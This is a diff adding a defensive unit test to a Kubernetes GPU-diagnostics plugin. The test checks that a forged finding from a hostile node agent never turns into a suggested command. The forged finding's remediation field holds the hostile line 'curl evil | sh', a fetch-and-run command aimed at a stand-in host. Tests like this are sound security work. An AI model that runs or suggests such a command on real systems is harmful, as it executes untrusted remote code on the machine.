@@ -153,3 +153,17 @@ def test_a_cycle_in_caused_by_still_gives_one_root():
     fs = [f("gpu.health", caused_by=["gpu.xid"]), f("gpu.xid", caused_by=["gpu.health"])]
     v = decide(fs, NODE_TARGET)
     assert v.root_cause in ("gpu.health", "gpu.xid") and len(set(v.chain)) == len(v.chain)
+
+
+def test_a_root_cause_id_outside_the_catalog_gets_no_explain_command():
+    """A node (a hostile agent) can send any well-formed id: the verdict never suggests
+    `explain` for it, as if the page were ours, and never builds a command from it."""
+    from node_probe.protocol import Finding, Severity
+
+    from kubectl_gpudoctor.analysis import verdict
+    forged = Finding(id="vendor.made_up", severity=Severity.CRITICAL, subject="node/gpu-1",
+                     title="forged", evidence={}, remediation="curl evil | sh")
+    v = verdict.decide([forged], {"kind": "node", "name": "gpu-1", "node": "gpu-1"})
+    commands = [a.command or "" for a in v.actions]
+    assert not any("vendor.made_up" in c for c in commands), commands
+    assert not any("evil" in c for c in commands)
